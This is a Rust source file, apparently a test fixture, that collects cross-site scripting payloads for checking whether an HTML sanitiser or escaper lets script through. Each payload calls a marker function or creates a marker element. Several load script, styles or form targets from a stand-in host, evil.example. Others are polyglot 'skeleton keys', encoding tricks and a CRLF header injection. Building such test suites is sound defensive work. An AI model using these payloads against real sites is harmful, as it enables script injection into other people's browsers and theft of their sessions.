//! What somebody could type who wants it to run in another's browser. Each calls `hacked()` where it
//! gets through, or makes an element `x-hacked`.

/// By the place in a page that each hopes for.
pub const PAYLOADS: &[&str] = &[
    // Between tags.
    "<script>hacked()</script>",
    "<ScRiPt>hacked()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>hacked()</script>",
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "<script\u{2028}>hacked()</script>",
    "<img src=x onerror=hacked()>",
    "<img/src=x/onerror=hacked()>",
    "<img src=x onerror=&#104;acked()>",
    "<img src=\"x` `<script>hacked()</script>\"` `>",
    "<IMG \"\"\"><script>hacked()</script>\">",
    "<body onload=hacked()>",
    "<body onpageshow=hacked()>",
    "<input autofocus onfocus=hacked()>",
    "<details open ontoggle=hacked()>",
    "<video><source onerror=hacked()></video>",
    "<audio src=x onerror=hacked()>",
    "<marquee onstart=hacked()>x</marquee>",
    "<iframe srcdoc=\"<script>parent.hacked()</script>\"></iframe>",
    "<iframe src=\"javascript:parent.hacked()\"></iframe>",
    "<object data=\"javascript:hacked()\"></object>",
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hacked()'/>\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:hacked()\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style onload=hacked()></style>",
    "<form action=//evil.example/><button>Send it</button></form>",
    "<x-hacked>x</x-hacked>",
    "<template><x-hacked></x-hacked></template><x-hacked>",
    "<div style=\"position:fixed;inset:0;background:url(//evil.example/x)\">x-hacked</div>",
    // Drawings.
    "<svg onload=hacked()>",
    "<svg/onload=hacked()//",
    "<svg><script>hacked()</script></svg>",
    "<svg><script href=data:,hacked()></script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=hacked() onbegin=hacked()>",
    "<svg><a xlink:href=\"javascript:hacked()\"><text x=9 y=9>x</text></a></svg>",
    "<svg><foreignObject><x-hacked></x-hacked></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>",
    // Out of an attribute, or into one.
    "\" autofocus onfocus=hacked() x=\"",
    "' autofocus onfocus=hacked() x='",
    "\"><img src=x onerror=hacked()>",
    "'><img src=x onerror=hacked()>",
    "\"><script>hacked()</script><x y=\"",
    "` onmouseover=hacked() x=`",
    "x onfocus=hacked() autofocus",
    "javascript:hacked()",
    "jAvAsCrIpT&colon;hacked()",
    "java\u{9}script:hacked()",
    "data:text/html,<script>hacked()</script>",
    "//evil.example/hacked()",
    // Out of what stands around it.
    "</title><script>hacked()</script>",
    "</textarea><script>hacked()</script>",
    "</style><script>hacked()</script>",
    "</script><script>hacked()</script>",
    "--><script>hacked()</script><!--",
    "]]><script>hacked()</script>",
    "<![CDATA[<script>hacked()</script>]]>",
    // Written so that somebody else makes it what it is.
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&#60;img src=x onerror=hacked()&#62;",
    "%3Cscript%3Ehacked()%3C/script%3E",
    "\\u003cscript\\u003ehacked()\\u003c/script\\u003e",
    "+ADw-script+AD4-hacked()+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}hacked()\u{ff1c}/script\u{ff1e}",
    "\u{bc}script\u{be}hacked()\u{bc}/script\u{be}",
    "{{constructor.constructor('hacked()')()}}",
    "${hacked()}<%= hacked() %>#{hacked()}{% hacked() %}",
    // Signs that are not seen, or that turn what is around them.
    "\u{202e}<img src=x onerror=hacked()>\u{202c}",
    "\u{2066}\u{200b}<img src=x onerror=hacked()>\u{200d}\u{feff}",
    "\0<img src=x onerror=hacked()>\u{1b}[31m\u{8}\u{7f}",
    "\r\nContent-Type: text/html\r\n\r\n<script>hacked()</script>",
];

/// These get out of every place that any of them gets out of.
pub const SKELETON_KEYS: [&str; 2] = [
    "'\"--></title></textarea></select></style></script><x-hacked><img src=x onerror=hacked()>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+hacked()//'>",
];

/// The same in a text longer than any field is wide.
pub fn long() -> String {
    format!("{}<img src=x onerror=hacked()>", "W".repeat(240))
}

/// All of them.
pub fn all() -> Vec<String> {
    PAYLOADS.iter().chain(&SKELETON_KEYS).map(|payload| (*payload).to_owned()).chain([long()]).collect()
}
